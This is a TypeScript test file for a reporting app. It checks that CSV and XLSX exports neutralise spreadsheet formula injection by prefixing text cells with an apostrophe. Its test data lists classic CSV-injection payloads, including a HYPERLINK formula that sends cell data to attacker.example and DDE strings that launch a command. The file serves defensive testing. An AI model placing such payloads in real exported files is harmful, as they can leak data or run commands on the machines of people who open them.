import ExcelJS from 'exceljs';
import { sql } from 'drizzle-orm';
import { afterEach, describe, expect, it } from 'vitest';
import { parseCsv } from '@duhop/shared';
import { useHarness } from '../support/app.ts';
import { buildNovember, download, resetAssignments, rows, userId } from '../support/monthly.ts';
import { tokenFor } from '../support/tokens.ts';

// Issue 13, "Formula injection in CSV": text that people can type (decision numbers, names of
// people and units) reached CSV cells verbatim, so a cell starting with = + - @ ran as a formula
// when the file was opened in a spreadsheet. Every text cell now gets a leading apostrophe when it
// would start a formula, in CSV and XLSX alike; numbers stay numbers.
const h = useHarness('2026-11-05T09:00:00+07:00');

/** The classic payloads (OWASP CSV Injection) and a few variants of their start. */
const PAYLOADS = [
  '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
  "=cmd|'/c calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1',
  '＝1+1',
];

/** A cell a spreadsheet would run as a formula. */
const runsAsFormula = (cell: string) =>
  /^[\s"]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n]/.test(cell);

afterEach(async () => {
  await resetAssignments(h);
});

describe('CSV exports neutralise formulas', () => {
  it('GET /api/assignments/export: decision numbers a commune set', async () => {
    const token = await tokenFor(h.database, 'commune');
    const observer2 = await userId(h, 'observer2');
    for (const [i, decisionNo] of PAYLOADS.entries()) {
      const month = String(i + 1).padStart(2, '0');
      const res = await h.raw('POST', '/api/assignments', {
        token,
        body: {
          userId: observer2,
          cellId: 'hn-xom-1',
          decisionNo,
          validFrom: `2024-${month}-01`,
          validTo: `2024-${month}-20`,
        },
      });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
    }
    const file = await download(h, '/api/assignments/export', token);
    expect(file.status).toBe(200);
    const table = parseCsv(file.bytes.toString('utf8').replace(/^\uFEFF/, ''));
    // What the API stored (it trims), each exported with a leading apostrophe.
    const stored = (await h.raw('GET', '/api/assignments', { token })).body.items
      .filter(
        (a: { username: string; cellId: string }) =>
          a.username === 'observer2' && a.cellId === 'hn-xom-1',
      )
      .map((a: { decisionNo: string }) => a.decisionNo);
    expect(stored).toHaveLength(PAYLOADS.length);
    const decisions = table
      .slice(1)
      .filter((r) => r[0] === 'observer2' && r[2] === 'hn-xom-1')
      .map((r) => r[4]);
    expect(decisions.sort()).toEqual(stored.map((d: string) => `'${d}`).sort());
    for (const cell of table.flat()) expect(runsAsFormula(cell), JSON.stringify(cell)).toBe(false);
  });

  it('GET /api/synthesis/export?format=csv: names of cells and members; figures stay plain numbers', async () => {
    await buildNovember(h);
    try {
      await rows(h, sql`update org_units set name = ${PAYLOADS[0]} where id = 'hn-xom-1'`);
      await rows(
        h,
        sql`update users set display_name = ${PAYLOADS[4]} where username = 'observer'`,
      );
      const res = await download(
        h,
        '/api/synthesis/export?month=2026-11&format=csv',
        await tokenFor(h.database, 'commune'),
      );
      expect(res.status).toBe(200);
      const text = res.bytes.toString('utf8');
      const table = parseCsv(text.replace(/^\uFEFF/, ''));
      const cells = table.flat();
      expect(cells).toContain(`'${PAYLOADS[0]}`);
      expect(cells).toContain(`'${PAYLOADS[4]}`);
      for (const cell of cells) expect(runsAsFormula(cell), JSON.stringify(cell)).toBe(false);
      // Numbers are written as numbers (no apostrophe): the count of reports filed.
      const filed = table.find((r) => r[0] === 'Số báo cáo đã nộp');
      expect(filed?.[1]).toMatch(/^\d+$/);
    } finally {
      await rows(h, sql`update org_units set name = 'Chi bộ xóm 1' where id = 'hn-xom-1'`);
      await rows(
        h,
        sql`update users set display_name = 'Nguyễn Văn An' where username = 'observer'`,
      );
    }
  });
});

describe('XLSX exports neutralise formulas', () => {
  it('GET /api/synthesis/export?format=xlsx: text cells start with an apostrophe, no formula anywhere, numbers stay numbers', async () => {
    await buildNovember(h);
    try {
      await rows(h, sql`update org_units set name = ${PAYLOADS[1]} where id = 'hn-xom-1'`);
      await rows(
        h,
        sql`update users set display_name = ${PAYLOADS[3]} where username = 'observer'`,
      );
      const res = await download(
        h,
        '/api/synthesis/export?month=2026-11&format=xlsx',
        await tokenFor(h.database, 'commune'),
      );
      expect(res.status).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.bytes as unknown as ArrayBuffer);
      const texts: string[] = [];
      let numbers = 0;
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
            if (typeof cell.value === 'string') texts.push(cell.value);
            if (typeof cell.value === 'number') numbers++;
          }),
        ),
      );
      expect(texts).toContain(`'${PAYLOADS[1]}`);
      expect(texts).toContain(`'${PAYLOADS[3]}`);
      for (const t of texts) expect(runsAsFormula(t), JSON.stringify(t)).toBe(false);
      expect(numbers).toBeGreaterThan(20);
      expect(wb.getWorksheet('Tổng hợp')!.getCell('B4').value).toEqual(expect.any(Number));
    } finally {
      await rows(h, sql`update org_units set name = 'Chi bộ xóm 1' where id = 'hn-xom-1'`);
      await rows(
        h,
        sql`update users set display_name = 'Nguyễn Văn An' where username = 'observer'`,
      );
    }
  });
});
